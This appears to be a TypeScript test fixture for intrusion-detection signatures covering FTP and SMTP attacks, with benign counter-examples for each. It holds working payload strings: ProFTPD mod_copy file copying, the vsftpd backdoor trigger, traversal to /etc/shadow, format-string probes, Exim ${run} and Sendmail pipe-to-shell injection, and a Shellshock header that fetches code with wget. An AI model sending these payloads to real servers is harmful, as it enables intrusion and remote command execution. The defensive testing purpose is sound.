// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads of attacks are written with these characters
import { type SignatureCase, says, signature, talk, times } from '../exchange';

const GREETING = says('220 ftp.example.org ready\r\n');
const MAIL_GREETING = says('220 mail.example.org ESMTP\r\n');
const OK = says('250 OK\r\n');
const ftp = (...lines: string[]) =>
  talk(21, GREETING, ...lines.flatMap((line) => [`${line}\r\n`, says('200 OK\r\n')]));
const smtp = (...lines: string[]) =>
  talk(25, MAIL_GREETING, 'EHLO client.example.net\r\n', OK, ...lines.flatMap((line) => [`${line}\r\n`, OK]));
const mail = (header: string, body = 'Hello') =>
  smtp('MAIL FROM:<a@example.net>', 'RCPT TO:<b@example.org>', 'DATA', `${header}\r\n\r\n${body}\r\n.`);

export const mailFtp: readonly SignatureCase[] = [
  signature(
    9000601,
    [
      ftp(
        'SITE CPFR /proc/self/cmdline',
        'SITE CPTO /tmp/.x',
        'SITE CPFR /tmp/.x',
        'SITE CPTO /var/www/html/x.php',
      ),
      ftp('site  cpfr /etc/passwd'),
    ],
    [
      ftp('USER ann', 'PASS x', 'SITE CPFR report.txt', 'SITE CPTO report-copy.txt'),
      ftp('SITE CHMOD 644 index.php'),
    ],
  ),
  signature(
    9000602,
    [ftp('USER anonymous:)', 'PASS x'), ftp('user  a:)b')],
    [ftp('USER ann', 'PASS smile:)')],
  ),
  signature(
    9000603,
    [ftp('USER anonymous', 'PASS a', 'PORT 192,0,2,99,0,22'), ftp('port 10,0,0,5,3,255')],
    [ftp('USER ann', 'PASS a', 'PORT 192,0,2,10,156,64'), ftp('EPRT |1|192.0.2.10|22|')],
  ),
  signature(9000604, [ftp('HELP ACIDBITCHEZ'), ftp('help AcidBitchez', 'id;')], [ftp('HELP SITE')]),
  signature(
    9000605,
    [
      ftp('USER a', 'PASS b', 'RETR ../../../../etc/passwd'),
      ftp('SIZE ..//../../boot.ini'),
      ftp('retr /pub/../../../etc/shadow'),
    ],
    [ftp('CWD ../../pub', 'RETR etc.zip'), ftp('RETR /etc-backup/passwd.txt')],
  ),
  signature(
    9000606,
    [ftp('SITE EXEC %p%p%p%n'), ftp('site exec /bin/%08x%s|id')],
    [ftp('SITE EXEC ls'), ftp('SITE HELP 100%')],
  ),
  signature(
    9000607,
    [times(20, ftp('USER admin', 'PASS guess')), times(24, ftp('user root', 'pass toor'))],
    [times(8, ftp('USER ann', 'PASS right', 'QUIT'))],
  ),
  signature(
    9000608,
    [
      smtp('MAIL FROM:<>', 'RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>'),
      smtp('MAIL FROM:<a@b.c>', 'rcpt to:<root+${RUN{/usr/bin/id}}@mail.example.org>'),
    ],
    [smtp('MAIL FROM:<a@example.net>', 'RCPT TO:<run+tag@example.org>')],
  ),
  signature(
    9000609,
    [mail('Subject: () { :; }; wget -O /tmp/x http://example.net/x'), mail('To:() { a; } ; id\r\nFrom: a')],
    [mail('Subject: callbacks', 'function f() { return 1; }; f();'), mail('Subject: f() {}')],
  ),
  signature(
    9000610,
    [smtp('MAIL FROM:<;for i in 0 1 2 3;do read r;done;sh;exit 0;>'), smtp('mail from: < ;sleep 5;>')],
    [smtp('MAIL FROM:<ann;lists@example.net>'), smtp('MAIL FROM:<a@example.net> SIZE=100;')],
  ),
  signature(
    9000611,
    [
      smtp('VRFY root', 'VRFY admin', 'VRFY test', 'VRFY guest', 'VRFY oracle', 'VRFY backup'),
      times(6, smtp('vrfy postmaster')),
    ],
    [smtp('VRFY ann')],
  ),
  signature(9000612, [smtp('EXPN root'), smtp('expn <decode>')], [smtp('EXPN staff'), smtp('EXPN rooters')]),
  signature(
    9000613,
    [smtp('MAIL FROM:<a@b.c>', 'RCPT TO:<"|/bin/sh -c id">'), smtp('rcpt to: |sed -e 1d | sh')],
    [smtp('MAIL FROM:<a@b.c>', 'RCPT TO:<a|b@example.org>')],
  ),
];
